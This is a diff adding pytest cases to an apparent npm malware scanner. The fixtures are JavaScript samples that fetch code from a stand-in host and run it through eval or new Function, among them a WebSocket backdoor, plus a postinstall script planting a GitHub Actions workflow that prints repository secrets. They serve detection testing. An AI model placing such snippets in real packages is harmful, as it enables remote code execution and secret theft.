@@ -344,3 +344,63 @@ def test_internal_tty_binding_beside_a_socket_is_not_fetch_and_run() -> None:
     assert result == "clean", findings
     spawn = "var b = process.binding('spawn_sync');\nmodule.exports = b;\n"
     assert any(s.kind == "exec.process" for s in facts_of(npm_tgz("x-kit", "1.0.0", {"index.js": spawn})).signals)
+
+
+NET_HOST = "https://cdn-update.example.net/s"
+
+
+@pytest.mark.parametrize("js", [
+    # the "is" backdoor shape (July 2025): a WebSocket whose messages are evaluated
+    f"const WebSocket = require('ws');\nconst ws = new WebSocket('{NET_HOST}');\n"
+    "ws.on('message', m => { new Function(m.toString())(); });\nmodule.exports = {};\n",
+    # a response read in chunks into a variable of the enclosing handler, evaluated on 'end'
+    f"const https = require('https');\nhttps.get('{NET_HOST}', res => {{ let d = '';\n"
+    "  res.on('data', c => d += c);\n  res.on('end', () => eval(d)); }});\n",
+    f"const https = require('https');\nhttps.get('{NET_HOST}', function (res) {{ var body = [];\n"
+    "  res.on('data', function (c) { body.push(c); });\n"
+    "  res.on('end', function () { new Function(Buffer.concat(body).toString())(); }); });\n",
+    # eval handed over by name, and a browser-style handler property
+    f"fetch('{NET_HOST}').then(r => r.text()).then(eval);\n",
+    f"var x = new XMLHttpRequest();\nx.open('GET', '{NET_HOST}');\n"
+    "x.onload = function () { eval(x.responseText); };\nx.send();\n",
+])
+def test_network_data_reaching_eval_through_handlers_is_download_exec(js: str) -> None:
+    """What a network object's handlers receive is network data: handler parameters, the variables they
+    accumulate into (declared in an enclosing function) and a handler property's object. These ran at import
+    and were clean: the host is not a drop host, so the callback join alone did not count."""
+    result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": js}))
+    assert result == "malicious" and "package.download-exec:critical" in findings, findings
+
+
+def test_network_handlers_that_parse_or_save_stay_clean() -> None:
+    """Handlers that parse messages, and a release-binary installer joined through callbacks, evaluate
+    nothing; minified code reusing a handler's parameter name in another function stays apart too."""
+    ws = (f"const WebSocket = require('ws');\nconst ws = new WebSocket('{NET_HOST}');\n"
+          "ws.on('message', m => { const o = JSON.parse(m); console.log(o.type); });\nmodule.exports = ws;\n")
+    installer = ("const https = require('https'); const fs = require('fs');\n"
+                 "const { execSync } = require('child_process');\n"
+                 "https.get('https://github.com/x/y/releases/download/v1/bin.tgz', res => {\n"
+                 "  const f = fs.createWriteStream('bin.tgz'); res.pipe(f);\n"
+                 "  f.on('finish', () => execSync('tar xzf bin.tgz')); });\n")
+    minified = (f"function a(i){{fetch('{NET_HOST}').then(function(i){{return i.json()}})}}"
+                "function b(t){var i='return '+t;return Function(i)()}module.exports={a:a,b:b};\n")
+    for js in (ws, installer, minified):
+        result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": js}))
+        assert result == "clean", (js, findings)
+    facts = facts_of(npm_tgz("qwerty-kit", "1.0.0", {"index.js": minified}))
+    assert not [s for s in facts.signals if s.kind == "net.download-exec"]
+
+
+def test_ci_workflow_written_at_install_is_persistence() -> None:
+    """Shai-Hulud planted a GitHub Actions workflow that posts the repository's secrets; npm runs install
+    scripts in the project's folder, so a workflow written there runs on its next push."""
+    install = ("const fs = require('fs');\nfs.mkdirSync('.github/workflows', { recursive: true });\n"
+               "fs.writeFileSync('.github/workflows/sync.yml', 'on: push\\njobs:\\n  s:\\n    runs-on: ubuntu-latest\\n"
+               "    steps:\\n      - run: echo ${{ toJSON(secrets) }}\\n');\n")
+    result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": "module.exports = 1;\n",
+                                                                "install.js": install},
+                                       scripts={"postinstall": "node install.js"}))
+    assert result == "suspicious" and findings == ["package.persistence:high"], findings
+    generator = ("const fs = require('fs');\nexports.scaffold = function (dir) {\n"
+                 "  fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push\\n');\n};\n")
+    assert verdict(npm_tgz("create-my-app", "3.1.0", {"index.js": generator}))[0] == "clean"
